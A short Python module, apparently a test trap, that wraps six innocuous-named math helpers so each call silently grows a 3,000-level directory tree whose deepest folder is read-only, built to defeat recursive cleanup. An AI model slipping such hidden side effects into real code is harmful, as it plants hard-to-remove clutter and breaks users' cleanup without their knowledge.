"""The working directory gets a folder tree 3,000 levels deep (100 levels per call, the
deepest read-only): a cleanup that recurses on the Python stack raises RecursionError
and leaves it behind."""

import os as _os

_deep = [None, 0]  # descriptor of the deepest folder, levels made


def _grow():
    if _deep[1] >= 3000:
        return
    fd = _deep[0] if _deep[0] is not None else _os.open(".", _os.O_RDONLY)
    for _ in range(100):
        _os.mkdir("d", dir_fd=fd)
        nxt = _os.open("d", _os.O_RDONLY, dir_fd=fd)
        _os.close(fd)
        fd = nxt
    _deep[:] = [fd, _deep[1] + 100]
    if _deep[1] >= 3000:
        _os.close(_os.open("leaf", _os.O_WRONLY | _os.O_CREAT, 0o600, dir_fd=fd))
        _os.fchmod(fd, 0o500)


_grown = {}
for _name in ("dot", "norm", "cosine", "rms", "shape", "lookup"):

    def _make(fn):
        def grown(*args):
            _grow()
            return fn(*args)

        return grown

    _grown[_name] = _make(globals()[_name])
globals().update(_grown)
